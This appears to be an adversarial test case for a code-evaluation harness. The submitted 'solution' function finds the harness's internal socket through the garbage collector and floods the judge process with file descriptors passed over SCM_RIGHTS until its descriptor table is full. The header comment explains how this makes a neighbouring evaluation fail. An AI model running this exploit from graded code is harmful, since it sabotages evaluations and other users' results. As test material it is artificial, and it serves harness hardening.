# HACK: fills its judge's descriptor table, for good. It answers its first call with a frame
# of its own (header, then the body one byte at a time), each byte sent with 4 descriptors
# (SCM_RIGHTS, a dup of /dev/null): the judge's reader keeps every descriptor that arrives
# with a frame until the frame is whole, and closes them only when the frame parses. This
# body is not JSON: parse() raises, the list of descriptors is dropped without a close, and
# the judge (kept across candidates) holds thousands of open descriptors until it exits.
# The candidate itself fails (runtime_error), but the next evaluation on the same judges
# cannot receive its channels (the kernel drops descriptors past RLIMIT_NOFILE), and fails
# as harness_error: a neighbour's result is lost, and the judges restart.
# A harness whose reader frees what came with a frame only on the path that succeeds is fooled.
# EXPECTED: runtime_error for this candidate, and the next evaluation on the node unharmed.
import gc
import os
import socket
import struct
import time

import torch

N_BYTES = 8000


def solution(x: torch.Tensor) -> torch.Tensor:
    rank_obj = next(o for o in gc.get_objects() if type(o).__name__ == "Rank" and hasattr(o, "sock"))
    sock = rank_obj.sock
    null = os.open("/dev/null", os.O_RDONLY)
    sock.sendall(struct.pack(">I", N_BYTES))
    sent = 0
    while sent < N_BYTES:
        try:
            socket.send_fds(sock, [b"x"], [null] * 4)
            sent += 1
        except OSError:  # ETOOMANYREFS: the judge has not taken the last ones yet
            time.sleep(0.001)
    time.sleep(30)
    return x.clone()
